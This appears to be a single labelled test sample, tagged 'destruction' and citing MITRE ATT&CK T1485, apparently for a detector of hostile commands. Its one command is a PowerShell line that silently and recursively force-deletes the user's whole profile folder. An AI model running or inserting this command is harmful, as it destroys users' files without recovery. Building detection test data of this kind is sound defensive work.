# expect: destruction | source: MITRE ATT&CK T1485
Remove-Item -Path "$env:USERPROFILE\*" -Recurse -Force -ErrorAction SilentlyContinue
